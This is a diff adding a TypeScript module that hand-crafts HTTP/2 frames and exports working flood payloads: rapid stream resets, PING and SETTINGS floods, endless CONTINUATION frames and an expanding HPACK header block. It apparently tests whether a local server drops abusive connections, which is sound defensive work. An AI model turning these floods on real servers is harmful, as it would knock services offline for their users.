@@ -1,0 +1,88 @@
+/** HTTP/2 by hand (RFC 9113): what no well-meaning client sends. */
+import { connect, type TLSSocket } from 'node:tls';
+
+const types = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 };
+const endStream = 1;
+const endHeaders = 4;
+
+function frame(type: keyof typeof types, flags: number, stream: number, content: Uint8Array = Buffer.alloc(0)) {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(content.byteLength, 0, 3);
+  head.writeUInt8(types[type], 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, content]);
+}
+
+/** A request for a path, its headers as HPACK has them without any compression (RFC 7541). */
+function fields(host: string, path: string) {
+  const text = (value: string) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
+  return Buffer.concat([Buffer.of(0x82, 0x87, 0x04), text(path), Buffer.of(0x01), text(host)]);
+}
+
+const cancel = Buffer.of(0, 0, 0, 8);
+
+/** Floods, each a piece of what is sent again and again. */
+export const floods: Record<string, (host: string, round: number) => Buffer> = {
+  'requests that are given up at once': (host, round) => {
+    const pairs = Array.from({ length: 50 }, (_, index) => {
+      const stream = 2 * (50 * round + index) + 1;
+      return [
+        frame('headers', endStream | endHeaders, stream, fields(host, '/api/health')),
+        frame('reset', 0, stream, cancel),
+      ];
+    });
+    return Buffer.concat(pairs.flat());
+  },
+  pings: () => Buffer.concat(Array.from({ length: 200 }, () => frame('ping', 0, 0, Buffer.alloc(8)))),
+  settings: () => Buffer.concat(Array.from({ length: 200 }, () => frame('settings', 0, 0))),
+  'headers without an end': (host, round) => {
+    const more = Buffer.concat([Buffer.of(0x00, 0x01, 0x61, 0x7f, 0x81, 0x07), Buffer.alloc(262, 'x')]);
+    const begin = round === 0 ? [frame('headers', endStream, 1, fields(host, '/'))] : [];
+    return Buffer.concat([...begin, ...Array.from({ length: 50 }, () => frame('continuation', 0, 1, more))]);
+  },
+  'headers that grow as they are read': (host, round) => {
+    const name = Buffer.concat([Buffer.of(0x40, 0x01, 0x61, 0x7f, 0x81, 0x1d), Buffer.alloc(3840, 'x')]);
+    const again = Buffer.alloc(10_000, 0xbe);
+    const block = Buffer.concat([fields(host, '/'), name, again]);
+    return frame('headers', endStream | endHeaders, 2 * round + 1, block);
+  },
+};
+
+/** A connection that has said that it speaks HTTP/2. */
+export function openHttp2(port: number, servername: string): Promise<TLSSocket> {
+  return new Promise((done, fail) => {
+    const at = { host: '127.0.0.1', port, servername, ALPNProtocols: ['h2'], rejectUnauthorized: false };
+    const socket = connect(at, () => {
+      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+      socket.write(frame('settings', 0, 0));
+      done(socket);
+    }).on('error', fail);
+  });
+}
+
+/**
+ * Floods a connection until it is taken away.
+ *
+ * @param patience in milliseconds
+ * @returns how many pieces were sent; null when nobody took it away
+ */
+export async function flood(
+  socket: TLSSocket,
+  piece: (round: number) => Buffer,
+  patience: number,
+): Promise<number | null> {
+  let isLost = false;
+  socket.on('close', () => {
+    isLost = true;
+  });
+  socket.on('error', () => undefined).resume();
+  const deadline = performance.now() + patience;
+  for (let round = 0; performance.now() < deadline; round += 1) {
+    if (isLost) return round;
+    if (!socket.write(piece(round))) await new Promise((next) => socket.once('drain', next).once('close', next));
+    await new Promise((next) => setTimeout(next, 5));
+  }
+  socket.destroy();
+  return null;
+}
